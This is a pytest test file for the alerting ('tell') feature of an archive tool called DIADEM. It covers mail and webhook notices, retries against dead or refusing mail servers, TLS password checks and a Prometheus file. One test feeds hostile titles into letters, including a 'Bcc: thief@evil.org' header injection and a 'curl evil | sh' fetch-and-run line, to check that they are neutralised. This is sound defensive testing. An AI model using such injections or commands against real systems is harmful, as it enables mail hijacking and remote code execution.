"""People are told what changes: once, whoever looks and how often; and nobody waits for a mail server that is dead."""

from __future__ import annotations

import datetime
import hashlib
import hmac
import json
import re
import socket
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

import diadem
from diadem.errors import Refused, Unreachable, UsageError
from diadem.node.jobs import working
from diadem.node.open import remember_node
from diadem.node.tell import post, verbs
from diadem.node.tell.news import Matter
from diadem.node.tell.verbs import TellVerbs
from tests.cli.inside import ended, said, said_json
from tests.mail_server import MailServer, certificate, mail_server, web_address
from tests.node.verbs.conftest import Lab, damage, lab
from tests.transfer.conftest import pair
from tests.transfer.pair import Pair

__all__ = ["lab", "pair"]


@pytest.fixture(autouse=True)
def soon(monkeypatch: pytest.MonkeyPatch) -> None:
    """In this process nobody waits long before looking a second time."""
    monkeypatch.setattr(verbs, "_AGAIN", 0.1)


@pytest.fixture
def mail() -> Iterator[MailServer]:
    with mail_server() as server:
        yield server


@pytest.fixture
def minutes(lab: Lab) -> list[float]:
    """How many minutes the node's clock is ahead of this machine's."""
    ahead, now = [0.0], lab.node.context.clock
    lab.node.context.clock = lambda: now() + datetime.timedelta(minutes=ahead[0])
    return ahead


def add(lab: Lab, url: str, *words: str, name: str = "group") -> str:
    return said("tell", "add", name, url, "--plain", "--to", "boss@example.org", *words, "--node", lab.node.path)


def now(lab: Lab) -> int:
    return ended("tell", "now", "--node", lab.node.path)[0]


@pytest.fixture
def quiet(lab: Lab, mail: MailServer) -> Lab:
    """A node with two stores and a session in both, whose people know how it stands."""
    lab.add_second()
    lab.confirm_recovery()
    lab.archived("one")
    add(lab, mail.url)
    now(lab)
    mail.letters.clear()
    return lab


@pytest.mark.program("200 looks at a whole node")
def test_a_store_that_dies_at_night_sends_one_mail_and_another_when_it_is_there_again(
    quiet: Lab, mail: MailServer
) -> None:
    """With a node that is opened anew for each look, as a timer does it."""
    away = quiet.root / "unplugged"
    for place, other, words, rest in (
        (quiet.second, away, "second does not answer", ["BROKEN", "WARNING"]),
        (away, quiet.second, "every rule holds", ["HOLDS AGAIN"]),
    ):
        mail.letters.clear()
        place.rename(other)
        assert {now(quiet) for _ in range(100)} == {0}
        assert len(mail.letters) == 1
        assert words in mail.letters[0]["Subject"]
        text = mail.letters[0].get_content()
        assert any(word in text for word in rest)
        assert "store.unreachable" in text or "if it lies elsewhere now: diadem store move --node" in text
    assert mail.recipients[-1] == ["boss@example.org"]
    assert mail.letters[0]["From"] == "DIADEM hu-berlin <boss@example.org>"


def test_what_a_letter_advises_acts_on_its_node_wherever_it_is_read(quiet: Lab, mail: MailServer) -> None:
    """Whose node is another one would ask that; where it is the node of this account, the commands stay short."""
    quiet.second.rename(quiet.root / "unplugged")
    with web_address() as hook:
        said("tell", "add", "chat", hook.url, "--plain", "--node", quiet.node.path)
        now(quiet)
        remember_node(Path(quiet.node.path))
        (quiet.root / "unplugged").rename(quiet.second)
        now(quiet)
    elsewhere, here = (one.get_content().replace("\r\n", "\n") for one in mail.letters)
    option = f"--node {quiet.node.path}"
    assert f"if it lies elsewhere now: diadem store move {option} second PATH\n" in elsewhere
    assert f"All of it: diadem status {option}\n" in elsewhere
    assert elsewhere.endswith(f"to end it: diadem tell rm {option} group\n")
    assert option not in here
    posted = json.loads(hook.posted[0][1])
    assert [option in one["next"] for one in posted["news"] if one["next"]] == [True]
    assert option in posted["text"]


def test_what_a_store_that_is_away_hides_is_not_said_to_hold_again(lab: Lab, mail: MailServer) -> None:
    lab.node.stores.add(str(lab.second), name="second")  # on the disk of the first, which is a warning
    lab.confirm_recovery()
    lab.archived("one")
    add(lab, mail.url)
    now(lab)
    assert "are on one disk" in mail.letters[0].get_content()
    lab.second.rename(lab.root / "unplugged")
    now(lab)
    assert "HOLDS AGAIN" not in mail.letters[1].get_content()
    (lab.root / "unplugged").rename(lab.second)
    now(lab)
    assert "WARNING" not in mail.letters[2].get_content()
    assert "HOLDS AGAIN: store.unreachable second" in mail.letters[2].get_content()


@pytest.mark.parametrize("version", ["this", "an earlier"])
def test_a_letter_that_waited_begins_with_what_is_still_so(
    quiet: Lab, mail: MailServer, minutes: list[float], version: str
) -> None:
    mail.refused["boss@example.org"] = "451 try again later"
    tell = quiet.node.tell
    quiet.second.rename(quiet.root / "unplugged")
    assert [one.state for one in tell.now()] == ["failed"]
    (quiet.root / "unplugged").rename(quiet.second)
    assert [one.state for one in tell.now()] == ["waits"]
    mail.refused.clear()
    minutes[0] += 90
    if version == "an earlier":  # which noted no keys
        book = quiet.node.path / verbs.BOOK
        book.write_text(re.sub(r'"key": "[^"]*",', "", book.read_text()))
    assert [one.state for one in tell.now()] == ["told"]
    begins = "every rule holds (+" if version == "this" else "second does not answer"
    assert mail.letters[-1]["Subject"].startswith(f"[hu-berlin] {begins}")
    assert "second does not answer" in mail.letters[-1].get_content()


@pytest.mark.program("services that run for seconds")
def test_several_that_look_at_once_and_restarts_do_not_double_it(quiet: Lab, mail: MailServer) -> None:
    quiet.second.rename(quiet.root / "unplugged")
    mail.before = lambda: time.sleep(1.5)  # so that all come while the first still sends
    command = [sys.executable, "-m", "diadem", "tell", "now", "--node", str(quiet.node.path)]
    running = [subprocess.Popen(command, stdout=subprocess.PIPE, text=True) for _ in range(4)]
    assert [one.wait(60) for one in running] == [0] * 4
    mail.before = lambda: None
    for _ in range(2):
        said("watch", "--once", "--quiet", "--node", quiet.node.path)
    said("scrub", "--quiet", "--node", quiet.node.path, code=None)
    (letter,) = mail.letters
    assert "second does not answer" in letter["Subject"]
    for one in running:
        assert one.stdout is not None
        one.stdout.close()


def test_sessions_that_came_in_are_told_in_one_letter(quiet: Lab, mail: MailServer) -> None:
    for name in ("two", "three"):
        quiet.archived(name)
    for _ in range(3):
        now(quiet)
    (letter,) = mail.letters
    assert "archived: 2 sessions: " in letter["Subject"]
    assert "'two' (" in letter.get_content()


def test_what_is_broken_only_while_somebody_works_at_it_is_not_told(quiet: Lab, mail: MailServer) -> None:
    """As the second copy of a large session, which takes its time; a store that dies meanwhile is told of."""
    quiet.second.rename(quiet.root / "unplugged")
    quiet.archived("two")
    assert not quiet.node.status().holds["copies.minimum"]
    with working(quiet.node.context, "archive", "a long one"):
        now(quiet)
        (letter,) = mail.letters
        assert "second does not answer" in letter.get_content()
        assert "proven copy" not in letter.get_content()
    now(quiet)
    assert "BROKEN: 1 package has 1 proven copy" in mail.letters[-1].get_content()
    (quiet.root / "unplugged").rename(quiet.second)
    quiet.node.repair()
    now(quiet)
    assert "HOLDS AGAIN: copies.minimum" in mail.letters[-1].get_content()
    assert len(mail.letters) == 3


def test_a_dead_mail_server_is_tried_again_later_and_nothing_is_lost(lab: Lab, minutes: list[float]) -> None:
    with mail_server() as server:
        port = server.port
    add(lab, f"smtp://127.0.0.1:{port}")
    lab.archived("one")
    node = lab.node
    assert [one.state for one in node.tell.now()] == ["failed"]
    assert [one.state for one in node.tell.now()] == ["waits"]  # not at once
    told = next(check for check in node.doctor()["checks"] if check["name"] == "tell")
    assert told["verdict"] == "wrong"
    assert "Connection refused" in told["message"]
    assert "tried again after" in said("status", "--node", node.path, code=None)
    assert said_json("tell", "ls", "--node", node.path, code=1)["tell"][0]["ok"] is False
    lab.archived("two")
    with mail_server(port=port) as server:
        assert [one.state for one in node.tell.now()] == ["waits"]
        minutes[0] += 2
        assert [one.state for one in node.tell.now()] == ["told"]
        text = server.letters[0].get_content()
        assert "1 proven copy" in text
        assert "'two'" in text
        minutes[0] += 2
        assert [one.state for one in node.tell.now()] == ["nothing new"]
    assert [one["verdict"] for one in node.doctor()["checks"] if one["name"] == "tell"] == ["ok"]


REFUSED = "550 5.1.1 no such person here"


def test_who_is_refused_alone_is_named_and_the_others_get_the_mail_once(quiet: Lab, mail: MailServer) -> None:
    add(quiet, mail.url, "--to", "bob@example.org")
    mail.refused["bob@example.org"] = REFUSED
    quiet.archived("two")
    assert now(quiet) == 1
    for _ in range(20):
        now(quiet)
    assert mail.recipients[-1] == ["boss@example.org"]
    assert len(mail.letters) == 1
    listed = said_json("tell", "ls", "--node", quiet.node.path, code=1)["tell"][0]
    assert (listed["state"], listed["news"], listed["ok"]) == ("told", 0, False)
    for words in (("tell", "ls"), ("status",), ("doctor",)):
        text = said(*words, "--node", quiet.node.path, code=None)
        assert "not to bob@example.org: 550 5.1.1 no such person here; to the others it went" in text
    # The next letter goes to the others as well.
    quiet.archived("three")
    now(quiet)
    assert len(mail.letters) == 2
    assert mail.recipients[-1] == ["boss@example.org"]


def test_who_alone_is_refused_for_now_gets_it_later_and_nobody_else_twice(
    quiet: Lab, mail: MailServer, minutes: list[float]
) -> None:
    add(quiet, mail.url, "--to", "bob@example.org")
    mail.refused["bob@example.org"] = "450 4.2.0 greylisted"
    quiet.archived("two")
    tell = quiet.node.tell
    assert [(one.state, one.news, one.ok) for one in tell.now()] == [("told", 1, False)]
    assert [one.state for one in tell.now()] == ["waits"]  # not at once, as after any other failure
    assert mail.recipients == [["boss@example.org"]]
    for words in (("tell", "ls"), ("status",), ("doctor",)):
        text = said(*words, "--node", quiet.node.path, code=None)
        assert re.search(r"not to bob@example.org: 450 4.2.0 greylisted; .*; tried again after", text), text
    quiet.archived("three")  # which does not wait for him
    assert [one.state for one in tell.now()] == ["told"]
    assert mail.recipients[1:] == [["boss@example.org"]]
    minutes[0] += 3
    assert [(one.state, one.news) for one in tell.now()] == [("failed", 2)]
    mail.refused.clear()
    assert [one.state for one in tell.now()] == ["waits"]
    minutes[0] += 10
    assert [(one.state, one.news, one.ok) for one in tell.now()] == [("told", 2, True)]
    assert mail.recipients[2:] == [["bob@example.org"]]
    assert all(one in mail.letters[-1].get_content() for one in ("'two'", "'three'"))
    minutes[0] += 90
    assert [one.state for one in tell.now()] == ["nothing new"]
    assert len(mail.letters) == 3


@pytest.mark.parametrize("end", ["550 5.1.1 no such person here", "taken off"])
def test_who_was_refused_for_now_is_given_up_where_that_is_final(
    quiet: Lab, mail: MailServer, minutes: list[float], end: str
) -> None:
    add(quiet, mail.url, "--to", "bob@example.org")
    mail.refused["bob@example.org"] = "451 try again later"
    quiet.archived("two")
    tell = quiet.node.tell
    tell.now()
    minutes[0] += 2
    if end == "taken off":
        add(quiet, mail.url)
        assert [(one.state, one.ok) for one in tell.now()] == [("nothing new", True)]
    else:
        mail.refused["bob@example.org"] = end
        assert [(one.state, one.news) for one in tell.now()] == [("failed", 0)]
    mail.refused.clear()
    minutes[0] += 90
    assert [one.state for one in tell.now()] == ["nothing new"]
    assert mail.recipients == [["boss@example.org"]]


@pytest.mark.parametrize("mended", ["add", "test"])
def test_a_refusal_is_over_when_the_address_is_another_or_a_test_gets_through(
    quiet: Lab, mail: MailServer, mended: str
) -> None:
    add(quiet, mail.url, "--to", "bob@example.org")
    mail.refused["bob@example.org"] = REFUSED
    quiet.archived("two")
    assert now(quiet) == 1
    assert ended("tell", "test", "group", "--node", quiet.node.path)[0] == 1
    if mended == "add":
        add(quiet, mail.url, "--to", "bob@example.com")
    else:
        mail.refused.clear()
        said("tell", "test", "group", "--node", quiet.node.path)
    count = len(mail.letters)
    assert now(quiet) == 0
    assert said_json("tell", "ls", "--node", quiet.node.path)["tell"][0]["words"] == ""
    assert [one["verdict"] for one in quiet.node.doctor()["checks"] if one["name"] == "tell"] == ["ok"]
    assert len(mail.letters) == count


def test_where_all_are_refused_it_waits_and_a_test_that_gets_through_ends_the_pause(
    quiet: Lab, mail: MailServer
) -> None:
    mail.refused["boss@example.org"] = "450 4.2.0 greylisted"
    quiet.archived("two")
    for _ in range(20):
        assert now(quiet) == 1
    assert not mail.letters
    assert "boss@example.org was refused: 450 4.2.0 greylisted" in said("tell", "ls", "--node", quiet.node.path, code=1)
    mail.refused.clear()
    said("tell", "test", "group", "--node", quiet.node.path)
    assert now(quiet) == 0
    assert "'two'" in mail.letters[-1].get_content()
    assert len(mail.letters) == 2


def test_nobody_waits_for_a_server_that_says_nothing(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(post, "SILENCE", 0.5)
    with socket.create_server(("127.0.0.1", 0)) as silent:
        add(lab, f"smtp://127.0.0.1:{silent.getsockname()[1]}")
        lab.archived("one")
        with lab.node.tell.beside():
            began = time.monotonic()
            lab.archived("two")
            archived = time.monotonic() - began
        assert [one.state for one in lab.node.tell.ls()] == ["waits"]
        assert "timed out" in lab.node.tell.ls()[0].words
    assert archived < 5


def test_a_server_that_goes_on_without_end_is_given_up(lab: Lab, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(Unreachable, match="longer than"):
        post.within(0.2, lambda: time.sleep(5))


def test_who_is_killed_while_sending_sends_the_same_letter_again(quiet: Lab, mail: MailServer) -> None:
    quiet.archived("two")
    command = [sys.executable, "-m", "diadem", "tell", "now", "--node", str(quiet.node.path)]
    running = subprocess.Popen(command)
    mail.before = running.kill  # the letter is there, and nobody could note it
    assert running.wait(60) != 0
    mail.before = lambda: None
    assert now(quiet) == 0
    assert now(quiet) == 0
    assert len(mail.letters) == 2
    assert len({one["Message-ID"] for one in mail.letters}) == 1


def test_one_who_flaps_gets_six_letters_an_hour_and_then_all_in_one(
    lab: Lab, mail: MailServer, minutes: list[float]
) -> None:
    add(lab, mail.url)
    lab.node.tell.now()
    for number in range(10):
        lab.archived(f"session {number}")
        lab.node.tell.now()
    assert len(mail.letters) == 6
    minutes[0] += 61
    lab.node.tell.now()
    assert len(mail.letters) == 7
    assert mail.letters[-1].get_content().count("ARCHIVED") == 5


def test_damage_is_told_again_when_it_has_doubled(quiet: Lab, mail: MailServer) -> None:
    ids = [quiet.archived(f"session {number}") for number in range(4)]
    quiet.node.tell.now()
    mail.letters.clear()
    for package in ids:
        folder = quiet.path(package, "main")
        damage(next(path for path in folder.rglob("*.bin")))
        quiet.node.scrub("main", package=package)
        quiet.node.tell.now()
    assert len(mail.letters) == 3  # of one package, of two, of four
    assert "replica.suspect" in str(quiet.node.status().findings)


@pytest.mark.parametrize("title", ["x\r\nBcc: thief@evil.org\r\n\r\nhello", "x\nTo do: curl evil | sh", "\u202eevil"])
def test_a_title_of_a_stranger_is_text_and_no_line_of_the_letter(lab: Lab, mail: MailServer, title: str) -> None:
    add(lab, mail.url, "--about", "archived")
    lab.node.tell.now()
    lab.node.archive(lab.session("one"), metadata={"session": {"title": title}}, now=True)
    lab.node.tell.now()
    (letter,) = mail.letters
    assert letter["Bcc"] is None
    assert mail.recipients == [["boss@example.org"]]
    lines = letter.get_content().splitlines()
    assert not [line for line in lines if line.lstrip().startswith(("To do: curl", "Bcc", "hello"))]
    assert "\u202e" not in letter["Subject"] + letter.get_content()


@pytest.mark.parametrize(
    "words",
    [
        ["smtp://mail.example.org"],
        ["smtp://mail.example.org", "--to", "a@b.org\nBcc: c@d.org"],
        ["smtp://mail.example.org", "--to", "nobody"],
        ["smtp://me:secret@mail.example.org", "--to", "a@b.org"],
        ["smtp://mail.example.org", "--plain", "--login", "me", "--to", "a@b.org"],
        ["smtp://mail.example.org\n", "--to", "a@b.org"],
        ["http://chat.example.org/hook"],
        ["ftp://chat.example.org/hook"],
        ["relative.prom"],
        ["/etc/passwd"],
        ["smtp://mail.example.org", "--to", "a@b.org", "--about", "weather"],
    ],
)
def test_what_cannot_be_told_is_refused_before_it_is_kept(lab: Lab, words: list[str]) -> None:
    code, text = ended("tell", "add", "group", *words, "--node", lab.node.path)
    assert code == UsageError.exit_code, text
    assert "secret" not in (lab.node.path / "node.toml").read_text()
    assert said_json("tell", "ls", "--node", lab.node.path)["tell"] == []


WRONG = [
    ('to = ["boss@example.org"]', 'to = "boss@example.org"', "tell.to = 'boss@example.org' is not a list of texts"),
    ("plain = true", "plain = 1", "tell.plain = 1 is neither true nor false"),
    ('name = "group"', 'name = "the group"', "'the group' cannot be a name"),
    ('name = "group"', "", "[[tell]] has no name"),
    ("[[tell]]", "[tell]", "tell is not a list of tables"),
    ('to = ["boss@example.org"]', 'to = ["boss"]', "[[tell]] 'group': 'boss' is not an address of a mail"),
    ('url = "smtp://', 'url = "smpt://', "[[tell]] 'group': this is no mail server"),
    ("about = []", 'about = ["weather"]', "[[tell]] 'group': there is no news about 'weather'"),
]


@pytest.mark.parametrize(("old", "new", "said_of"), WRONG)
@pytest.mark.sweep(4)
def test_what_is_written_wrongly_is_told_with_its_file_and_stops_nothing_else(
    quiet: Lab, mail: MailServer, old: str, new: str, said_of: str
) -> None:
    path, node = quiet.node.path / "node.toml", ("--node", quiet.node.path)
    good = path.read_text("utf-8")
    head, tell = good.split("[[tell]]")
    path.write_text(head + f"[[tell]]{tell}".replace(old, new), "utf-8")
    quiet.archived("two")
    for words in (("tell", "ls"), ("tell", "now"), ("status",), ("doctor",)):
        text = said(*words, *node, code=None if words == ("doctor",) else 1 if words[0] == "tell" else 0)
        assert said_of in text.replace("\n", " "), text
        assert str(path) in text
    (listed,) = said_json("tell", "ls", *node, code=1)["tell"]
    assert (listed["state"], listed["ok"]) == ("wrong", False)
    assert "Correct it: " in listed["words"] or "[[tell]] 'group'" in said_of
    said("search", "two", *node)
    assert not mail.letters
    # A command that changes the settings leaves what stands there to who wrote it.
    said("user", "add", "zoe", *node)
    assert f"[[tell]]{tell}".replace(old, new).strip() in path.read_text("utf-8")
    # Corrected, what happened meanwhile is told once, and nothing that was told before.
    path.write_text(path.read_text("utf-8").replace(f"[[tell]]{tell}".replace(old, new).strip(), f"[[tell]]{tell}"))
    assert now(quiet) == 0
    (letter,) = mail.letters
    assert "'two'" in letter.get_content()
    assert "'one'" not in letter.get_content()


def test_others_are_told_while_one_is_written_wrongly_and_nothing_is_lost_by_a_command(
    quiet: Lab, mail: MailServer
) -> None:
    path, node = quiet.node.path / "node.toml", ("--node", quiet.node.path)
    add(quiet, mail.url, name="second")
    now(quiet)
    count = len(mail.letters)
    good = path.read_text("utf-8")
    path.write_text("plain = 7".join(good.rsplit("plain = true", 1)), "utf-8")
    quiet.archived("two")
    assert now(quiet) == 1
    assert len(mail.letters) == count + 1
    said("tell", "test", "group", *node)
    bent = path.read_text("utf-8")
    for words in (("add", "third", mail.url, "--plain", "--to", "a@b.org"), ("rm", "group"), ("test", "second")):
        code, text = ended("tell", *words, *node)
        assert code == UsageError.exit_code
        assert "tell.plain = 7 is neither true nor false" in text
        assert str(path) in text
    assert path.read_text("utf-8") == bent
    path.write_text(good, "utf-8")
    assert now(quiet) == 0
    assert "'two'" in mail.letters[-1].get_content()
    assert len(mail.letters) == count + 3


def test_a_password_goes_over_tls_to_a_server_whose_certificate_holds(
    lab: Lab, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DIADEM_TELL_GROUP", "right")
    tls, public = certificate(tmp_path)
    with mail_server(tls=tls) as server:
        node = lab.node
        node.tell.add("group", server.url, to="boss@example.org", login="diadem@example.org")
        with pytest.raises(Refused, match="certificate"):
            node.tell.test("group")
        assert not server.passwords
        monkeypatch.setenv("SSL_CERT_FILE", str(public))
        assert node.tell.test("group").state == "told"
        assert server.passwords == ["right"]
        assert server.letters[0]["From"] == "DIADEM hu-berlin <diadem@example.org>"
        monkeypatch.setenv("DIADEM_TELL_GROUP", "wrong")
        with pytest.raises(Unreachable, match="535"):
            node.tell.test("group")
        monkeypatch.delenv("DIADEM_TELL_GROUP")
        with pytest.raises(Refused, match="DIADEM_TELL_GROUP") as missing:
            node.tell.test("group")
        assert "keyring set diadem-tell group" in str(missing.value.next)
    everything = b"".join(path.read_bytes() for path in lab.root.rglob("*") if path.is_file() and path.suffix != ".key")
    assert b"right" not in (lab.node.path / "node.toml").read_bytes()
    assert b'"right"' not in everything


def test_a_server_without_tls_is_refused_unless_somebody_said_that_it_may(lab: Lab, mail: MailServer) -> None:
    lab.node.tell.add("group", mail.url, to="boss@example.org")
    code, text = ended("tell", "test", "group", "--node", lab.node.path)
    assert code == Refused.exit_code
    assert "--plain" in text
    add(lab, mail.url)
    said("tell", "test", "group", "--node", lab.node.path)
    assert len(mail.letters) == 1


def test_a_web_address_gets_json_that_is_signed_and_leads_nowhere_else(
    lab: Lab, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("DIADEM_TELL_CHAT", "between us")
    with web_address() as web, web_address() as inside:
        said("tell", "add", "chat", web.url, "--plain", "--signed", "--node", lab.node.path)
        lab.node.tell.now()
        web.posted.clear()
        package = lab.archived("one")
        lab.node.tell.now()
        ((head, body),) = web.posted
        wanted = hmac.new(b"between us", body, hashlib.sha256).hexdigest()
        assert head["x-diadem-signature-256"] == f"sha256={wanted}"
        document = json.loads(body)
        assert document["node"] == lab.node.id
        (one,) = [news for news in document["news"] if news["topic"] == "archived"]
        assert package[7:19] in one["text"]
        assert document["text"].startswith("[hu-berlin] ")
        web.answer, web.location = 302, inside.url
        lab.archived("two")
        (told,) = lab.node.tell.now()
        assert told.state == "failed"
        assert inside.url in told.words
        assert not inside.posted


def test_the_file_for_prometheus_is_whole_and_its_own(quiet: Lab) -> None:
    file = quiet.root / "collector" / "diadem.prom"
    file.parent.mkdir()
    said("tell", "add", "prometheus", file, "--node", quiet.node.path)
    quiet.second.rename(quiet.root / "unplugged")
    now(quiet)
    assert [one.state for one in quiet.node.tell if one.kind == "file"] == ["written"]
    text = file.read_text()
    for line in (
        "diadem_ok 1",
        'diadem_store_reachable{store="main"} 1',
        'diadem_store_reachable{store="second"} 0',
        "diadem_packages 1",
        "diadem_copies_unseen 1",
        "diadem_watchers 0",
        'diadem_rule_warning{rule="store.unreachable"} 1',
        'diadem_untold{to="group"} 0',
    ):
        assert f"\n{line}\n" in text, line
    assert 'diadem_store_free_bytes{store="main"} ' in text
    assert 'diadem_store_oldest_proof_seconds{store="main"} ' in text
    names = [line.split()[2] for line in text.splitlines() if line.startswith("# TYPE")]
    assert sorted(set(names)) == sorted(names)
    assert {line.split("{")[0].split()[0] for line in text.splitlines() if not line.startswith("#")} == set(names)
    assert [path.name for path in file.parent.iterdir()] == ["diadem.prom"]
    file.write_text("# somebody else's\n")
    code, words = ended("tell", "now", "--node", quiet.node.path)
    assert code == 1
    assert "not a file of DIADEM" in words
    assert file.read_text() == "# somebody else's\n"


def test_an_offer_and_a_receipt_that_does_not_come_are_told(pair: Pair, mail: MailServer) -> None:
    days, clock = [0], pair.a.node.context.clock
    for node in (pair.a.node, pair.b.node):
        node.tell.add("group", mail.url, to="boss@example.org", plain=True, about=["offer", "receipt"])
        node.context.clock = lambda: clock() + datetime.timedelta(days=days[0])
        node.tell.now()
    assert not mail.letters
    offer = pair.a.node.send(pair.a.archived("session"), "marie@nmi")
    for _ in range(2):
        pair.b.node.tell.now()
    (letter,) = mail.letters
    assert "alice@hu-berlin offers marie@nmi 'session'" in letter["Subject"]
    assert f"diadem accept --node {pair.b.node.path} {offer.id[:8]}" in letter.get_content()
    pair.b.node.accept(offer.id, wait=False)
    pair.a.node.tell.now()
    assert len(mail.letters) == 1  # it is on its way
    days[0] = 2
    for _ in range(2):
        pair.a.node.tell.now()
    assert len(mail.letters) == 2
    assert "the receipt of 'session' for marie@nmi is missing since" in mail.letters[1].get_content()


def test_it_ends_when_somebody_says_so(quiet: Lab, mail: MailServer) -> None:
    said("tell", "rm", "group", "--node", quiet.node.path)
    quiet.archived("two")
    assert now(quiet) == 0
    assert not mail.letters
    assert "[[tell]]" not in (quiet.node.path / "node.toml").read_text()
    assert ended("tell", "test", "group", "--node", quiet.node.path)[0] == 3
    with diadem.open_node(quiet.node.path) as node:
        assert list(node.tell) == []


def test_a_node_that_cannot_be_judged_is_told_of_once_and_nothing_is_said_to_hold_again(
    quiet: Lab, mail: MailServer
) -> None:
    quiet.second.rename(quiet.root / "unplugged")
    assert now(quiet) == 0
    quiet.node.close()
    mail.letters.clear()
    database = quiet.node.path / "catalogue.sqlite"
    whole = database.read_bytes()
    database.write_bytes(b"no database any more" * 1000)
    assert [now(quiet) for _ in range(3)] == [0] * 3
    (letter,) = mail.letters
    assert "nobody can tell how the archive stands" in letter["Subject"]
    assert "holds again" not in letter.get_content().lower()
    database.write_bytes(whole)
    assert [now(quiet) for _ in range(3)] == [0] * 3
    assert "HOLDS AGAIN: node.unreadable" in mail.letters[-1].get_content()
    assert len(mail.letters) == 2


def test_a_share_that_hangs_is_told_of(quiet: Lab, mail: MailServer, monkeypatch: pytest.MonkeyPatch) -> None:
    def hang() -> list[Matter]:
        time.sleep(2)
        return []

    monkeypatch.setattr(verbs, "_LOOK", 0.3)
    hangs = TellVerbs(quiet.node.context, hang)
    for _ in range(2):
        hangs.now()
    (letter,) = mail.letters
    assert "longer than 0 seconds" in letter["Subject"]


@pytest.mark.program("services that run for seconds")
def test_who_serves_and_who_watches_tell_by_themselves(quiet: Lab, mail: MailServer) -> None:
    """Both at once, as services do, and each stopped and started again."""
    quiet.second.rename(quiet.root / "unplugged")
    at = ["--quiet", "--node", str(quiet.node.path)]
    for _ in range(2):
        running = [
            subprocess.Popen([sys.executable, "-m", "diadem", *words, *at], stdout=subprocess.DEVNULL)
            for words in (["serve", "--listen", "none"], ["watch"])
        ]
        for _ in range(200):
            if mail.letters and (quiet.node.path / "locks/serve.json").exists():
                break
            time.sleep(0.05)
        time.sleep(0.3)
        for one in running:
            one.terminate()
        assert [one.wait(60) for one in running] == [0, 6]
    (letter,) = mail.letters
    assert "second does not answer" in letter["Subject"]
